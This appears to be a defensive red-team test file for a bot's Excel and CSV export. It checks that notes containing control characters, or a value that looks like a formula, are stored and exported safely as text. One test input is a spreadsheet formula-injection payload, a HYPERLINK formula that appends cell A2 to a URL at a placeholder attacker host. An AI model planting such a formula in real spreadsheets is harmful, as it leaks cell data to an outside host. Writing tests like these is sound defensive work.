"""Red team: a note with control characters (a terminal escape, a bell, a vertical tab) must
not break the export for every coordinator: the history is append-only, so it would stay
broken for good."""

from __future__ import annotations

from pathlib import Path

import openpyxl
from harness import ADMIN, COORD, ECO, MakeBot
from support import at

from bot.cli import main

NOTE = "进度\x0b60%\x1b[31m 红色\x07"


async def test_a_note_with_control_characters_does_not_break_the_export(
    make_bot: MakeBot, tmp_path: Path
) -> None:
    bot = await make_bot(at("2025-12-01 08:00"))
    await bot.start_users(ECO, COORD, ADMIN)
    await bot.say(ECO, "/update 2")
    await bot.press(ECO, bot.last(ECO, "目前进展如何"), "u:t02:n")
    await bot.say(ECO, NOTE)
    assert bot.rows("SELECT note FROM status_updates") == [(NOTE,)]  # kept as said

    await bot.say(COORD, "/export")
    sent = bot.messages(COORD)[-1]
    assert sent.get("document"), sent.get("text")

    out = tmp_path / "e.xlsx"
    args = ["export", "--config", str(bot.config), "--db", str(bot.db_path), "--out", str(out)]
    assert main(args) == 0
    cells = [
        str(c.value)
        for ws in openpyxl.load_workbook(out).worksheets
        for row in ws.iter_rows()
        for c in row
        if c.value
    ]
    assert any("红色" in c and "60%" in c for c in cells)


FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"详情见附件")'


async def test_a_note_that_looks_like_a_formula_stays_text_in_the_workbooks(
    make_bot: MakeBot, tmp_path: Path
) -> None:
    """A contact's note beginning with '=' must not become a live formula in the workbook the
    office opens (nor in the digest's CSV, which Excel opens too)."""
    from bot.reports.excel import history_csv
    from storage.repo import Store

    bot = await make_bot(at("2025-12-01 08:00"))
    await bot.start_users(ECO, COORD, ADMIN)
    await bot.say(ECO, "/update 2")
    await bot.press(ECO, bot.last(ECO, "目前进展如何"), "u:t02:n")
    await bot.say(ECO, FORMULA)
    out = tmp_path / "f.xlsx"
    args = ["export", "--config", str(bot.config), "--db", str(bot.db_path), "--out", str(out)]
    assert main(args) == 0
    found = [
        c
        for ws in openpyxl.load_workbook(out).worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str) and "evil.example" in c.value
    ]
    assert found and all(c.data_type == "s" for c in found)
    store = Store.open(bot.db_path)
    try:
        csv_text = history_csv(bot.duban.runtime.catalogue, store.updates()).decode("utf-8-sig")
    finally:
        store.close()
    assert ',"=HYPERLINK' not in csv_text and "\n=HYPERLINK" not in csv_text
    assert "evil.example" in csv_text
